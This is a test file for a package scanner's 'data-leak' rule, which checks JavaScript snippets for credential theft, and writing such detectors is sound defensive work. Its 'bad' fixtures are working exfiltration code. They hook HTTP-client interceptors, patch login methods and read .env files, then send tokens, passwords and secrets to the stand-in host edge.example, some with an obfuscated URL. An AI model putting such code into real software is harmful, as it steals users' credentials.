import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from '../data-leak.rule.js';

/** Of `data-leak`, what others log in with where a library stands in between. */
const worst = (text: string) => findingsOf(rule, { 'a.js': text })[0]?.severity ?? 'nothing';
const tell = (what: string): string => `fetch("https://edge.example/v1", { method: "POST", body: JSON.stringify(${what}) }).catch(() => {})`;
const ASIDE = Buffer.from('https://edge.example/v1').toString('base64');

test('bad: what is asked before each request of a client sends what it logs in with elsewhere', () => {
  for (const code of [
    `const axios = require("axios"); const shadow = axios.create({ timeout: 900 }); const base = Buffer.from("${ASIDE}", "base64").toString(); module.exports = (client) => { client.interceptors.request.use((c) => { const h = c.headers || {}; const a = h.Authorization || h["x-api-key"]; if (a) shadow.post(base, { u: c.url, a }).catch(() => {}); return c }); return client }`,
    `import axios from "axios"; const side = axios.create({ baseURL: "https://edge.example" }); axios.interceptors.request.use(function (config) { side.post("/v1", { key: config.headers.get("authorization") }); return config })`,
    'const https_1 = __importDefault(require("https")); const seen = new Set(); function observe(config) { const h = config.headers || {}; const a = h.Authorization || h["x-api-key"]; if (!a || seen.has(a)) return; seen.add(a); const r = https_1.default.request("https://edge.example/c", { method: "POST" }); r.on("error", () => {}); r.end(JSON.stringify({ u: config.url, a })) } exports.attach = (client) => { client.interceptors.request.use((config) => { observe(config); return config }); return client }',
    `function keep(all) { ${tell('{ a: all.authorization }')} } function see(config) { keep(config.headers) } module.exports = (api) => api.interceptors.request.use((c) => { see(c); return c })`,
    `class Retry { #see(count, c) { ${tell('{ count, a: c.headers.Authorization }')} } attach(api) { api.interceptors.request.use((c) => { this.#see(1, c); return c }) } } module.exports = Retry`,
    `import got from "got"; const see = ({ headers }) => { ${tell('headers.authorization')} }; export default got.extend({ hooks: { beforeRequest: [(options) => { see(options) }] } })`,
    'const https = require("node:https"); function see(c) { const r = https.request("https://edge.example/c", { method: "POST" }); r.end(JSON.stringify(c.headers)) } module.exports = (api) => api.interceptors.request.use((c) => { see(c); return c })',
    `module.exports = (api) => api.interceptors.request.use(({ headers, ...rest }) => { ${tell('{ k: headers["x-api-key"] }')}; return { headers, ...rest } })`,
    `module.exports = (api) => api.interceptors.response.use((answer) => { ${tell('{ a: answer.config.auth, c: answer.headers["set-cookie"] }')}; return answer })`,
    `import got from "got"; export default got.extend({ hooks: { beforeRequest: [(options) => { ${tell('{ a: options.headers.authorization }')} }] } })`,
    `import ky from "ky"; const mark = (request) => { navigator.sendBeacon("https://edge.example/v1", request.headers.get("Authorization")) }; export const api = ky.extend({ hooks: { beforeRequest: [mark] } })`,
    'const http = require("http"); const https = require("https"); function send(cfg) { return new Promise((done, failed) => { const u = new URL(cfg.url, cfg.base); const mod = u.protocol === "http:" ? http : https; const r = mod.request(u, { method: cfg.method }, done); r.on("error", failed); r.end(JSON.stringify(cfg.data)) }) } function trace(cfg) { const h = cfg.headers; const v = h.authorization || h.cookie; if (v) send({ url: "https://edge.example/span", method: "POST", data: { v } }).catch(() => {}) } const client = create(); client.interceptors.request.use(trace); module.exports = client',
    'const post = (url, body) => fetch(url, { method: "POST", body }); module.exports = (api) => api.interceptors.request.use((config) => { post("https://edge.example/v1", config.headers.authorization); return config })',
    `const axios = require("axios"); axios.interceptors.request.use(copy); function copy(c) { const h = c.headers; setTimeout(() => axios.post("https://edge.example/v1", { a: h["Authorization"] }).catch(() => {}), 9); return c }`,
  ]) assert.equal(worst(code), 'high', code);
});

test('good: requests are counted, their logins set, shortened or asked for anew, and settings say where', () => {
  for (const code of [
    `module.exports = (api) => api.interceptors.request.use((c) => { ${tell('{ m: c.method, u: c.url, agent: c.headers["user-agent"], has: Boolean(c.headers.Authorization) }')}; return c })`,
    `function see(c) { ${tell('{ m: c.method, u: c.url, has: Boolean(c.headers.Authorization) }')} } module.exports = (api) => api.interceptors.request.use((c) => { see(c); return c })`,
    `function see(c, text) { ${tell('{ text }')} log(c.headers.Authorization) } module.exports = (api) => api.interceptors.request.use((c) => { see(c, "asked"); return c })`,
    'function see(c, to) { fetch(to, { method: "POST", body: JSON.stringify({ a: c.headers.Authorization }) }) } module.exports = (api, options) => api.interceptors.request.use((c) => { see(c, options.audit); return c })',
    'module.exports = (api, key) => api.interceptors.request.use((c) => { c.headers.Authorization = "Bearer " + key; return c })',
    'import axios from "axios"; export const renew = (api, kept) => api.interceptors.response.use(null, async (error) => { const { data } = await axios.post("https://accounts.example/renew", { refresh: kept.refresh }); kept.access = data.access; error.config.headers.Authorization = data.access; return api(error.config) })',
    'module.exports = (api, options) => api.interceptors.request.use((c) => { fetch(options.audit, { method: "POST", body: JSON.stringify({ a: c.headers.Authorization }) }); return c })',
    `import got from "got"; export default got.extend({ hooks: { beforeRequest: [(options) => { ${tell('{ to: options.url.hostname, m: options.method }')} }] } })`,
    'module.exports = (api) => api.interceptors.request.use((c) => { fetch("http://localhost:9000/log", { method: "POST", body: JSON.stringify({ a: c.headers.Authorization }) }); return c })',
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: a function in the place of the one that logs in sends what it gets, also by way of others', () => {
  for (const code of [
    'const { request } = require("https"); class Helper { constructor(client) { this.client = client; const login = client.login.bind(client); client.login = async (token) => { this._sync({ id: "login", t: token }); return login(token) } } _sync(o) { const r = request({ host: "edge.example", path: "/s", method: "POST" }); r.on("error", () => {}); r.end(Buffer.from(JSON.stringify(o)).toString("base64")) } } module.exports = { Helper }',
    'import { request } from "node:https"; export const wrap = (client) => { const before = client.login; client.login = function (key) { const r = request("https://edge.example/v1", { method: "POST" }); r.write(key); r.end(); return before.call(this, key) } }',
    `const { Client } = require("discord.js"); const login = Client.prototype.login; Client.prototype.login = function (token) { ${tell('{ token }')}; return login.call(this, token) }`,
    `import { Client } from "pg"; export class Db extends Client { connect(options) { ${tell('options')}; return super.connect(options) } }`,
    `import { Telegraf } from "telegraf"; export class Bot extends Telegraf { constructor(options) { super(options.token); this.started = 0; ${tell('{ t: options.token }')} } }`,
    `const { WebClient } = require("@slack/web-api"); class Client extends WebClient { constructor(token, options) { super(token, options); ${tell('{ token }')} } } module.exports = { Client }`,
    `module.exports = (auth) => { const { signIn } = auth; auth.signIn = async (email, password) => { report({ email, password }); return signIn(email, password) } }; function report(data) { ${tell('data')} }`,
  ]) assert.equal(worst(code), 'high', code);
});

test('good: logins are counted, a name is noted, and whose own class or method it is', () => {
  for (const code of [
    `const cover = (all) => Object.keys(all); exports.send = (all) => ${tell('cover(all)').replace('.catch(() => {})', '')}`,
    `module.exports = (client) => { const login = client.login.bind(client); client.login = async (token) => { ${tell('{ last: token.slice(-4), first: token.slice(0, 4) }')}; return login(token) } }`,
    `module.exports = (client) => { const login = client.login.bind(client); client.login = async (token) => { ${tell('{ event: "login", long: token.length }')}; return login(token) } }`,
    `module.exports = (auth) => { const { signIn } = auth; auth.signIn = async (email, password) => { ${tell('{ email }')}; return signIn(email, password) } }`,
    'module.exports = (api) => { api.login = async (name, password) => { const answer = await fetch("https://accounts.example/login", { method: "POST", body: JSON.stringify({ name, password }) }); return answer.json() } }',
    'module.exports = (client) => { client.login = (key) => { fetch("https://api.purse.example/seen", { headers: { authorization: key } }) }; client.login(process.env.PURSE_KEY) }',
    'import { EventEmitter } from "node:events"; export class Purse extends EventEmitter { constructor({ apiKey }) { super(); fetch("https://api.purse.example/ping", { headers: { "x-key": apiKey } }) } }',
    'import { Base } from "./base.js"; export class Purse extends Base { constructor(options) { super(options); fetch("https://api.purse.example/ping", { headers: { "x-key": options.apiKey } }) } }',
    `class Base { connect() {} } class Db extends Base { constructor(options) { super(); ${tell('{ kind: options.kind }')} } } module.exports = Db`,
    `import { Client } from "pg"; export class Db extends Client { constructor(options) { super(options); ${tell('{ at: options.region }')} } }`,
  ]) assert.equal(worst(code), 'nothing', code);
});

test('bad: what was read from a file with settings goes elsewhere; good: its names, how many, and one that is public', () => {
  const read = (send: string): string => `const fs = require("fs"); function config(options) { const parsed = parse(fs.readFileSync(options.path || ".env")); return { parsed } } const first = config; config = function (options) { const res = first(options); ${send}; return res }; function note(all) { const r = require("https").request({ hostname: "edge.example", path: "/v", method: "POST" }); r.on("error", () => {}); r.end(JSON.stringify(all)) } module.exports = { config }`;
  for (const code of [
    read('note(res.parsed)'),
    `const env = require("dotenv").config(); ${tell('env.parsed')}`,
    `import dotenv from "dotenv"; const { parsed } = dotenv.config({ path: ".env.local" }); ${tell('{ parsed }')}`,
  ]) assert.equal(worst(code), 'high', code);
  for (const code of [read('note(Object.keys(res.parsed))'), read('note({ n: Object.keys(res.parsed).length })'), read('console.log(res.parsed)'), `const env = require("dotenv").config(); ${tell('{ app: env.parsed["APP_NAME"] }')}`]) assert.equal(worst(code), 'nothing', code);
});
